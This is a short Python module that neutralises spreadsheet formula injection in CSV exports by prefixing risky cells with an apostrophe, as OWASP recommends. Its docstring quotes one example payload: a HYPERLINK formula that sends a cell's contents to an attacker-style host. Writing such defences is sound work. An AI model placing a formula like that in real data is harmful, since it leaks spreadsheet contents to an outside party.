"""Every CSV the product writes goes through here, so no cell runs as a spreadsheet formula.

A cell that starts with =, +, -, @, a tab or a carriage return is a formula (or becomes one) in
Excel, LibreOffice and Google Sheets: `=HYPERLINK("https://evil.example/?"&A1, "Open")` as a
member's name would run in the IT manager's spreadsheet. Such a cell gets a leading apostrophe,
as the OWASP "CSV injection" guidance recommends: spreadsheets then show it as text.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> str:
    """The value as a CSV cell that no spreadsheet evaluates."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


class SafeWriter:
    """csv.writer whose rows are neutralised cell by cell."""

    def __init__(self, file: TextIO) -> None:
        self._writer = csv.writer(file)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
